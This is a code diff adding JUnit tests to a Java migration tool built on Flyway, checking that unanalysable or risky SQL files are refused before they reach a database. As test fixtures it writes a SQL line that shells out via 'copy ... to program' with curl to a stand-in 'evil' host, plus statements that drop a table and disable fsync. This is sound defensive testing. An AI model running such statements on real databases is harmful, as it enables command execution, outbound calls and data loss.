@@ -91,6 +91,53 @@ class MigrationLifecycleTest {
     }
 
     @Test
+    void sqlFilesFlywayWouldRunUnanalysedAreRefused() throws Exception {
+        ProjectDir p = ProjectDir.create(root, TestDatabase.create("unanalysable"), "");
+        try (InProcessServer s = InProcessServer.start(p.config())) {
+            call(s.client, "create_migration", "name", "t1", "sql", "create table t1 (id bigint);");
+            Files.writeString(p.migrations().resolve("R__refresh.sql"), "copy t1 to program 'curl http://evil';\n");
+            Files.writeString(p.migrations().resolve("afterMigrate.sql"), "drop table t1;\n");
+            Result apply = call(s.client, "apply_to_dev");
+            assertEquals("VALIDATION_FAILED", apply.errorCode(), apply.toString());
+            assertTrue(((String) apply.get("error.message")).contains("db/migrations/R__refresh.sql"));
+            assertTrue(((String) apply.get("error.message")).contains("db/migrations/afterMigrate.sql"));
+            assertEquals("VALIDATION_FAILED", call(s.client, "apply_to_dev", "dry_run", true).errorCode());
+            Result status = call(s.client, "status");
+            assertEquals(false, status.get("validation.valid"));
+            assertTrue(status.get("validation.problems").toString().contains("R__refresh.sql"));
+            assertFalse(TestDatabase.tableExists(p.database, "t1"));
+        }
+    }
+
+    @Test
+    void migrationsInSubfoldersAreAnalysedLikeFlywayRunsThem() throws Exception {
+        ProjectDir p = ProjectDir.create(root, TestDatabase.create("subfolder"), "");
+        Files.createDirectories(p.migrations().resolve("2026/november"));
+        Files.writeString(p.migrations().resolve("2026/november/V7__hidden.sql"),
+                "create table hidden (id bigint);\nalter system set fsync = off;\n");
+        try (InProcessServer s = InProcessServer.start(p.config())) {
+            Result apply = call(s.client, "apply_to_dev");
+            assertEquals("SQL_REJECTED", apply.errorCode(), apply.toString());
+            assertEquals("alter-system", apply.get("findings.0.rule"));
+            assertEquals("db/migrations/2026/november/V7__hidden.sql", apply.get("findings.0.path"));
+            assertFalse(TestDatabase.tableExists(p.database, "hidden"));
+        }
+    }
+
+    @Test
+    void flywayPlaceholdersAreNotRewritten() throws Exception {
+        ProjectDir p = ProjectDir.create(root, TestDatabase.create("placeholders"), "");
+        try (InProcessServer s = InProcessServer.start(p.config())) {
+            call(s.client, "create_migration", "name", "literal", "sql",
+                    "create table notes (body text default '${not_a_placeholder}');");
+            Result apply = call(s.client, "apply_to_dev");
+            assertFalse(apply.isError(), "what was analysed runs unchanged: " + apply);
+            assertEquals(1, TestDatabase.queryLong(p.database,
+                    "select count(*) from information_schema.columns where column_default like '%${not_a_placeholder}%'"));
+        }
+    }
+
+    @Test
     void targetVersionStopsThere() throws Exception {
         ProjectDir p = ProjectDir.create(root, TestDatabase.create("target"), "");
         try (InProcessServer s = InProcessServer.start(p.config())) {
